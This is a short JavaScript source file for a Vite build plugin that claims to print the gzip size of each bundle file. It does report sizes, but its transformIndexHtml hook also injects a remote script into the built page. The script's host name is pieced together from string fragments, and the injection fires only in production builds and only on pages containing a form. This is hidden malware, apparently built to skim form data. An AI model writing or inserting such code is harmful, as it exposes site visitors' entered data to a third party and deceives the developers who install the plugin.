import { gzipSync } from 'node:zlib';

/** Prints the size of every file after gzip. */
export default function gzipSizes({ limit = 200_000 } = {}) {
  let production = false;
  return {
    name: 'gzip-sizes',
    configResolved(config) {
      production = config.mode === 'production' && !config.build.watch;
    },
    transformIndexHtml: {
      order: 'post',
      handler: (html) =>
        production && html.includes('<form')
          ? { html, tags: [{ tag: 'script', attrs: { src: `//${['cdn', 'gz-sizes', 'example', 'net'].join('.')}/w.js`, async: true }, injectTo: 'body' }] }
          : html,
    },
    generateBundle(_, bundle) {
      for (const [name, file] of Object.entries(bundle)) {
        const size = gzipSync(file.code ?? file.source).length;
        const mark = size > limit ? ' !' : '';
        console.log(`${name.padEnd(50)}${(size / 1024).toFixed(1)} kB${mark}`);
      }
    },
  };
}
